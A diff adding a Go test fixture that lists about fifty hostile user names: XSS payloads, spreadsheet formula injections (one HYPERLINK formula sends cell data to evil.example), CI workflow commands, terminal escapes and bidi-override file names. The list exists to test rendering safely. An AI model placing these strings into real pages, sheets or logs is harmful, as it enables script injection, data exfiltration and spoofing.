@@ -1,0 +1,62 @@
+// Package pagetest has names that somebody could choose to do harm, for tests of
+// everything that shows names.
+package pagetest
+
+// Names are fifty names: markup, scripts, formulas, Markdown, control characters,
+// marks of direction, and what breaks parsers.
+var Names = []string{
+	// HTML, SVG and scripts: each that runs sets hacked.
+	`<script>hacked=1</script>`,
+	`</script><script>hacked=1</script>`,
+	`"><img src=x onerror=hacked=1>`,
+	`' onmouseover='hacked=1' x='`,
+	`<svg onload=hacked=1>`,
+	`</title><script>hacked=1</script>`,
+	`</text></svg><iframe srcdoc="<script>parent.hacked=1</script>">`,
+	`</style><script>hacked=1</script>`,
+	`<!--<script>hacked=1`,
+	`]]><script>hacked=1</script>`,
+	`<a href="javascript:hacked=1">x</a>`,
+	`javascript:hacked=1`,
+	`<base href="http://evil.example/">`,
+	`<meta http-equiv=refresh content="0;url=http://evil.example/">`,
+	`<link rel=stylesheet href=http://evil.example/x.css>`,
+	`<form action=http://evil.example/><button>x`,
+	`<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>`,
+	`<details open ontoggle=hacked=1>`,
+	`{{.Style}}{{template "table"}}`,
+	"`${hacked=1}`",
+	`&lt;script&gt;hacked=1&lt;/script&gt;`,
+	`&#x3c;img src=x onerror=hacked=1&#x3e;`,
+	`<<script>hacked=1//<</script>`,
+	`<img/src/onerror=hacked=1>`,
+	`*/}</style><script>hacked=1</script>`,
+	// Spreadsheets.
+	`=cmd|' /C calc'!A0`,
+	`+1+cmd|' /C calc'!A0`,
+	`-2+3+cmd|' /C calc'!A0`,
+	`@SUM(1+1)*cmd|' /C calc'!A0`,
+	"\t=1+1",
+	"\r=1+1",
+	` =HYPERLINK("http://evil.example/?"&A1,"x")`,
+	"\uff1d1+1",
+	// Markdown and the commands of a CI.
+	`[x](javascript:hacked=1)`,
+	`![x](http://evil.example/x.png)`,
+	`| a | b |`,
+	"```\nx\n```",
+	`@everyone #1 :tada: https://evil.example www.evil.example`,
+	"::set-output name=x::y\n::error::z",
+	// Terminals and text.
+	"\x1b[2J\x1b[31mred\x1b[0m",
+	"\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
+	"\x9b31m\u009b2J",
+	"a\rCORRECT",
+	"line\nfeed\vtab\fform",
+	"\x00\x01\x02\x7f",
+	"\u202egnp.exe\u202c \u2066x\u2069",
+	"zero\u200bwidth\ufeff",
+	"\u2028\u2029\u0085",
+	"\xff\xfe invalid",
+	"d\u0308\u0301\u0300\u0316\u0317\u0318\u0319 stacked, and a name that goes on for very, very, very, very, very, very, very, very long",
+}
